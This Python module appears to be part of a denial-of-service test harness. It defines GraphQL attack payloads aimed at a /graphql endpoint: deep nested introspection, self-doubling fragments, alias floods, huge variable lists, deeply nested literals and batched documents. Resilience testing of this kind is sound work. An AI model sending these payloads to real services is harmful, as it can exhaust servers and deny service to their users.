"""Attacks with GraphQL documents that are cheap to send and expensive to answer, coerce, cache or parse."""
import random
import uuid

from client import request
from neighbours.row import Row

TEXT_BYTES = 16 * 1024  # bytes of the longest document that is accepted


class Introspection(Row):
    name, title = "introspection", "nested introspection, a kilobyte a request"
    credential, budget, least = "none", "introspection", 2

    async def attack(self):
        # Each type of an interface leads back to the interface, and each level multiplies the answer by three.
        inner = " ".join(f"a{n}:description" for n in range(self.scaled(95, 5)))
        for _ in range(8):
            inner = "possibleTypes{interfaces{%s}}" % inner
        text = "{__schema{types{%s}}}" % inner
        data = request("POST", "/graphql", None, {"query": text})
        await self.crowd(2, lambda: data)


class Variables(Row):
    name, title = "variables", "100 aliases, each of which uses a variable of 510,000 values"
    budget, least = "variables", 2

    async def attack(self):
        aliases = " ".join(f"a{n}:connectedUsersIndicator(groupIds:$v){{connectedUsersCount}}" for n in range(100))
        values = [1] * self.scaled(510_000)
        body = {"query": "query($v:[LegacyId!]){%s}" % aliases, "variables": {"v": values}}
        data = request("POST", "/graphql", self.hostile.key, body)
        await self.crowd(2, lambda: data)


class LongDocuments(Row):
    name, title = "long-documents", "16 KiB a document, no two the same"
    budget, least, most_mib = "documents", 300, 192  # 300 are 4.7 MB of text

    async def attack(self):
        def make():
            name = "a" + uuid.uuid4().hex
            values = ",".join(["1"] * ((TEXT_BYTES - 200) // 2))
            text = "{%s:connectedUsersIndicator(groupIds:[%s]){connectedUsersCount}}" % (name, values)
            return request("POST", "/graphql", self.hostile.key, {"query": text})
        await self.crowd(4, make, pause=0)


class Nesting(Row):
    """Nested literals, fragments that double, floods of aliases, batches of documents."""
    name, title = "nested-documents", "nested literals, fragments that double, 300 aliases, batches of documents"

    async def attack(self):
        nested = "{users(filters:%s){edges{cursor}}}" % ("[" * 4000 + "]" * 4000)
        objects = "{users(filters:%s){edges{cursor}}}" % ("{a:" * 2000 + "1" + "}" * 2000)
        doubling = "{...f0}" + "".join(f" fragment f{n} on Query{{...f{n + 1} ...f{n + 1}}}" for n in range(25))
        doubling += " fragment f25 on Query{__typename}"
        aliases = "{" + " ".join(f"a{n}:connectedUsersIndicator{{connectedUsersCount}}" for n in range(300)) + "}"
        documents = [{"query": text} for text in (nested, objects, doubling, aliases, "{" * 8000)]
        documents.append([{"query": "{__typename}"}] * 1000)
        made = [request("POST", "/graphql", self.hostile.key, document) for document in documents]
        await self.crowd(4, lambda: random.choice(made), {400, 413}, 0.05)


ROWS = (Introspection, Variables, LongDocuments, Nesting)
